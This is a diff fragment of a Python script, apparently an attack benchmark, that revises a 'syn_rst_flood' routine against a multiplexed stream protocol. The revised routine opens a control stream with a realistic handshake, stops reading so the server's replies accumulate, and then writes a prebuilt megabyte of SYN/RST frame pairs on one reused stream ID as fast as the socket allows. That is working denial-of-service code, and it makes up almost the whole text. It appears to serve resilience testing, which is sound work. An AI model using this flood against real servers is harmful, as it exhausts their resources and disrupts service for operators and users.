@@ -34,7 +34,7 @@ from pathlib import Path
 
 HEADER = struct.Struct(">BBHII")
 SYN, RST = 0x1, 0x8
-WINDOW_UPDATE = 1
+DATA, WINDOW_UPDATE = 0, 1
 IDENTIFIER = "ATTACK-BENCH-" + secrets.token_hex(8)
 
 
@@ -169,10 +169,13 @@ async def syn_rst_flood(port: int, stop: asyncio.Event) -> int:
         "\r\n\r\n".encode()
     )
     await reader.readuntil(b"\n\n")
-    transport.pause_reading()  # never read again: the server's answers pile up
+    # The control stream and its handshake, as a real client opens them...
+    handshake = b"controlHandshake"
+    writer.write(HEADER.pack(0, DATA, SYN, 1, len(handshake)) + handshake)
+    transport.pause_reading()  # ...then never read again: the server's answers pile up
     # One stream ID, opened and reset over and over (legal: a reset stream is gone), so
     # one prebuilt megabyte of frames can be written as fast as the socket takes it.
-    pair = HEADER.pack(0, WINDOW_UPDATE, SYN, 1, 0) + HEADER.pack(0, WINDOW_UPDATE, RST, 1, 0)
+    pair = HEADER.pack(0, WINDOW_UPDATE, SYN, 3, 0) + HEADER.pack(0, WINDOW_UPDATE, RST, 3, 0)
     batch = pair * 43_690
     sent = 0
     try:
